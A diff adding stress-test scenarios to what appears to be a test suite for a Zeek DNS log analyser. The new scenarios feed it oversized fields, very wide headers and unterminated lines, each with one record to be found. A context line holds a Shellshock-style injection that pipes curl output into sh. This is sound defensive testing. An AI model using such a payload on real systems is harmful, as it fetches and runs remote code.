@@ -243,3 +243,36 @@ def many_alarms(folder: Path, scale: float) -> Attack:
             log.write(row(i, f"Q{i}", f"h{i}.example", uri[:4096], f"() {{ :; }}; /bin/sh -c 'curl {i}.example|sh'"))
         log.write(row(count, "LAST", "x.example", INJECTION, "curl/8"))
     return Attack(frozenset(("LAST",)))
+
+
+@scenario
+def long_names(folder: Path, scale: float) -> Attack:
+    """600 records whose log name, client, server and host are texts of 200 kB, each another one."""
+    wide = "n" * int(200_000 * scale)
+    with (folder / "dns.json").open("w") as log:
+        for i in range(600):
+            record = {"_path": f"dns{wide}{i}" if i % 2 else "dns", "ts": 1.7e9 + i, "uid": f"{wide}{i}", "query": f"h{i}.example"}
+            record |= {"id.orig_h": f"{wide}{i}", "id.resp_h": f"{wide}.{i}", "host": f"{i}.{wide}"}
+            log.write(json.dumps(record) + "\n")
+        log.write(json.dumps({"_path": "dns", "ts": 1.7e9 + 900, "uid": "LAST", "query": HOST}) + "\n")
+    return Attack(frozenset(("LAST",)))
+
+
+@scenario
+def wide_headers(folder: Path, scale: float) -> Attack:
+    """1,000 Zeek logs with headers of 60 kB, each with other names, and a record in each."""
+    count = int(1_000 * scale)
+    for i in range(count):
+        names = [f"{k}n{i}" for k in range(int(6_000 * scale))]
+        (folder / f"dns.{i}.log").write_text(head("dns", "query", *names) + row(i, f"W{i}", "kernel.org", *("-" for _ in names)))
+    (folder / "zz.log").write_text(head("dns", "query") + row(0, "LAST", HOST))
+    return Attack(frozenset(("LAST",)))
+
+
+@scenario
+def unfinished_lines(folder: Path, scale: float) -> Attack:
+    """500 logs whose only line has 900 kB and does not end, and one that does."""
+    for i in range(500):
+        (folder / f"dns.{i}.log").write_text(head("dns", "query") + f"1700000000.0\\tU{i}\\t" + "a" * int(900_000 * scale))
+    (folder / "zz.log").write_text(head("dns", "query") + row(0, "LAST", HOST))
+    return Attack(frozenset(("LAST",)))
